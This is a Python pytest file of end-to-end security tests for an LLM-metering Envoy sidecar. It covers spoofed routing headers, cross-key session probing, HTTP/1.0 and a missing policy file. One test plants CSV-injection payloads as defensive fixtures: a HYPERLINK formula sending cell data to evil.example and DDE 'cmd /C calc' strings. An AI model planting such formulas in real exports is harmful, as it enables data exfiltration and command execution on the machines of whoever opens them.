"""End to end, a hostile client against the real stack: headers that try to steer routing,
cells planted for finance's spreadsheet, one key probing another key's session, HTTP/1.0,
and an operator's missing policy file.

Real Envoy (with a second upstream cluster), the sidecar with a policy, real Redis, two
simulators; raw sockets, httpx and the CLI as clients; Python's csv module reads the exports.
"""

from __future__ import annotations

import csv
import io
import json
import socket
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
import redis

from extproc.books.export import FORMULA_LEADS
from extproc.devstack.stack import Stack, temporary_stack
from tests.conftest import all_records, cli, new_key, policy_stack, wait_record

RID = "x-extproc-request-id"
ROUTE = "x-extproc-route"
POLICY = """
version: 1
timezone: UTC
defaults: {default_output_cap: 64}
routing:
  upstream_routes:
    azure: {description: second upstream}
    nowhere: {description: a route whose cluster Envoy was never given}
  rules:
    - name: batch-to-azure
      when: {service: [batch]}
      set: {route: azure}
    - name: lost-to-nowhere
      when: {service: [lost]}
      set: {route: nowhere}
workspaces:
  dev:
    budget_usd: 1000
    upstream: {key_env: TEST_UPSTREAM}
    services:
      cli: {}
      batch: {}
      lost: {}
      agent:
        routing: {max_session_input_tokens: 200, on_context_exceeded: reject}
"""


@pytest.fixture(scope="module")
def hstack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    env = {"TEST_UPSTREAM": "sk-upstream"}
    with policy_stack(tmp_path_factory, POLICY, env, extra_upstreams=("azure",)) as s:
        yield s


@pytest.fixture(scope="module")
def rc(hstack: Stack) -> Iterator[redis.Redis]:
    r = redis.Redis.from_url(hstack.redis_url)
    yield r
    r.close()


def seen_by(upstream_url: str) -> list[dict]:
    return httpx.get(f"{upstream_url}/_sim/requests", timeout=10).json()["requests"]


def chat(
    stack: Stack, key: str, headers: dict[str, str] | None = None, **body: object
) -> httpx.Response:
    payload = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}], **body}
    return httpx.post(
        f"{stack.base_url}/chat/completions",
        json=payload,
        headers={"authorization": f"Bearer {key}", **(headers or {})},
        timeout=30,
    )


# --- routing -------------------------------------------------------------------------------


@pytest.mark.parametrize("steer", ["azure", "extproc", "openai_upstream", "nonexistent", ""])
def test_no_header_a_client_sends_chooses_the_cluster(
    hstack: Stack, rc: redis.Redis, steer: str
) -> None:
    key = new_key(hstack, "dev", "cli")["key"]
    main, azure = len(seen_by(hstack.upstream_url)), len(seen_by(hstack.routes["azure"]))
    # Every spelling Envoy treats as the same header, and a second copy of it.
    headers = [(ROUTE, steer), ("X-Extproc-Route", steer), (ROUTE.upper(), steer)]
    resp = httpx.post(
        f"{hstack.base_url}/chat/completions",
        json={"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]},
        headers=[("authorization", f"Bearer {key}"), *headers],
        timeout=30,
    )
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"].startswith("application/json")
    assert resp.json()["object"] == "chat.completion"
    # Served by the default upstream, which never saw the client's header.
    assert len(seen_by(hstack.routes["azure"])) == azure
    served = seen_by(hstack.upstream_url)
    assert len(served) == main + 1
    assert ROUTE not in {h.lower() for h in served[-1]["headers"]}
    rec = wait_record(rc, resp.headers[RID])
    assert (rec["status"], rec["estimated"]) == (200, False)


def test_the_sidecars_own_route_still_reaches_its_cluster(hstack: Stack) -> None:
    """The route cache is cleared for the route the policy sets, whatever the client sent."""
    key = new_key(hstack, "dev", "batch")["key"]
    azure = len(seen_by(hstack.routes["azure"]))
    for steer in ("extproc", "openai_upstream"):
        resp = chat(hstack, key, {ROUTE: steer})
        assert resp.status_code == 200, resp.text
    routed = seen_by(hstack.routes["azure"])
    assert len(routed) == azure + 2
    assert {r["headers"][ROUTE] for r in routed[-2:]} == {"azure"}


def test_a_route_without_its_cluster_is_an_openai_shaped_503(
    hstack: Stack, rc: redis.Redis
) -> None:
    """An operator's mistake (a policy route Envoy has no cluster for), not an empty 503."""
    key = new_key(hstack, "dev", "lost")["key"]
    resp = chat(hstack, key)
    assert resp.status_code == 503, resp.text
    assert resp.headers["content-type"] == "application/json"
    assert resp.headers["x-should-retry"] == "true"
    assert resp.json()["error"]["code"] == "upstream_unavailable"
    rec = wait_record(rc, resp.headers[RID])
    assert (rec["status"], rec["cost_nanos"]) == (503, 0)
    assert len(all_records(rc, resp.headers[RID])) == 1


def test_steering_over_http2_is_refused_too(hstack: Stack) -> None:
    key = new_key(hstack, "dev", "cli")["key"]
    azure = len(seen_by(hstack.routes["azure"]))
    with httpx.Client(http1=False, http2=True, timeout=30) as client:
        resp = client.post(
            f"{hstack.base_url}/chat/completions",
            json={"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]},
            headers={"authorization": f"Bearer {key}", ROUTE: "azure"},
        )
    assert resp.http_version == "HTTP/2"
    assert resp.status_code == 200, resp.text
    assert len(seen_by(hstack.routes["azure"])) == azure


# --- finance's files -----------------------------------------------------------------------

PLANTED = {
    "session": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "model": "=cmd|' /C calc'!A0",
    "task_session": "@SUM(1+9)*cmd|' /C calc'!A0",
}


def test_exports_opened_by_a_csv_parser_hold_no_formula(hstack: Stack, rc: redis.Redis) -> None:
    key = new_key(hstack, "dev", "cli")["key"]
    since = datetime.now(UTC) - timedelta(seconds=5)
    served = chat(hstack, key, {"session_id": PLANTED["session"]})
    assert served.status_code == 200, served.text
    other = chat(hstack, key, {"session_id": PLANTED["task_session"]}, model=PLANTED["model"])
    ids = {served.headers[RID]: PLANTED["session"], other.headers[RID]: PLANTED["task_session"]}
    for rid in ids:
        wait_record(rc, rid)
    for fmt in ("csv", "focus"):
        out = cli(hstack, "ledger", "export", "--since", since.isoformat(), "--format", fmt).stdout
        rows = list(csv.DictReader(io.StringIO(out, newline="")))
        assert rows, fmt
        for row in rows:  # every cell of every row
            for name, value in row.items():
                formula = value.startswith(FORMULA_LEADS)
                number = value.lstrip("-").replace(".", "", 1).isdigit()
                assert not formula or number, f"{fmt} {name}: {value!r}"
        by_id = {row["request_id" if fmt == "csv" else "x_RequestId"]: row for row in rows}
        assert set(ids) <= set(by_id), fmt
        # What the client planted is still there to read, as text.
        for rid, session in ids.items():
            row = by_id[rid]
            if fmt == "csv":
                assert row["session_id"] == "'" + session
            else:
                assert json.loads(row["Tags"])["session_id"] == session
        refused = by_id[other.headers[RID]]
        if fmt == "csv":
            assert refused["model_requested"] == "'" + PLANTED["model"]
        else:
            assert refused["ChargeDescription"].startswith("'" + PLANTED["model"])


# --- one key probing another's session -----------------------------------------------------


def me(stack: Stack, key: str) -> dict:
    url = stack.base_url.removesuffix("/v1") + "/extproc/v1/me"
    resp = httpx.get(url, headers={"x-api-key": key}, timeout=10)
    assert resp.status_code == 200, resp.text
    return resp.json()


def test_a_key_cannot_read_or_exhaust_another_keys_session(hstack: Stack, rc: redis.Redis) -> None:
    owner = new_key(hstack, "dev", "agent")
    prober = new_key(hstack, "dev", "agent")
    sid = "sess-owned-by-one-key"
    first = chat(hstack, owner["key"], {"session_id": sid})
    assert first.status_code == 200
    owned = wait_record(rc, first.headers[RID])["counted_input_tokens"]
    # The prober names the same session and grows it past the cap (200 input tokens) with
    # requests that each fit under it: the second one's running total is over.
    half = [{"role": "user", "content": "lorem ipsum dolor " * 45}]
    probes = [chat(hstack, prober["key"], {"session_id": sid}, messages=half) for _ in range(2)]
    assert [p.status_code for p in probes] == [200, 413], probes[-1].text
    assert probes[-1].json()["error"]["code"] == "session_input_tokens_over_limit"
    probed = sum(wait_record(rc, p.headers[RID])["counted_input_tokens"] for p in probes)
    # Each key sees its own session of that name, and only its own tokens in it...
    mine = {s["session_id"]: s for s in me(hstack, prober["key"])["sessions"]}
    assert mine[sid]["input_tokens"] == probed
    theirs = {s["session_id"]: s for s in me(hstack, owner["key"])["sessions"]}
    assert theirs[sid]["input_tokens"] == owned
    # ...so the owner's session is not used up by the probe.
    again = chat(hstack, owner["key"], {"session_id": sid})
    assert again.status_code == 200, again.text
    assert owner["key_id"] not in json.dumps(me(hstack, prober["key"]))


# --- HTTP/1.0 ------------------------------------------------------------------------------


def raw_http(port: int, request: bytes) -> tuple[bytes, bytes]:
    """Send `request` on a fresh connection and read until the server closes it."""
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        sock.sendall(request)
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    return head, body


def test_http_1_0_is_answered_and_metered(hstack: Stack, rc: redis.Redis) -> None:
    port = hstack.config.listen_port
    head, body = raw_http(port, b"GET /v1/models HTTP/1.0\r\n\r\n")
    assert head.startswith(b"HTTP/1.0 401"), head
    assert json.loads(body)["error"]["code"] == "invalid_api_key"
    key = new_key(hstack, "dev", "cli")["key"]
    payload = json.dumps(
        {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hello 1.0"}]}
    ).encode()
    request = (
        f"POST /v1/chat/completions HTTP/1.0\r\nAuthorization: Bearer {key}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(payload)}\r\n\r\n"
    ).encode() + payload
    head, body = raw_http(port, request)
    assert head.startswith(b"HTTP/1.0 200"), head
    rid = next(
        line.split(b":", 1)[1].strip().decode()
        for line in head.split(b"\r\n")
        if line.lower().startswith(RID.encode())
    )
    assert json.loads(body)["usage"]["prompt_tokens"] > 0
    assert wait_record(rc, rid)["cost_nanos"] > 0


# --- an operator's missing policy ----------------------------------------------------------


def test_a_missing_policy_file_stops_the_stack_with_one_line(tmp_path: Path) -> None:
    missing = tmp_path / "policy.yaml"
    env = {"EXTPROC_POLICY": str(missing)}
    with pytest.raises(RuntimeError) as failed, temporary_stack(sidecar_env=env):
        pass  # pragma: no cover - the sidecar must not start
    said = [line for line in str(failed.value).splitlines() if line.startswith("extproc:")]
    assert said == [
        f"extproc: not starting: policy {missing}: cannot read: No such file or directory"
    ]
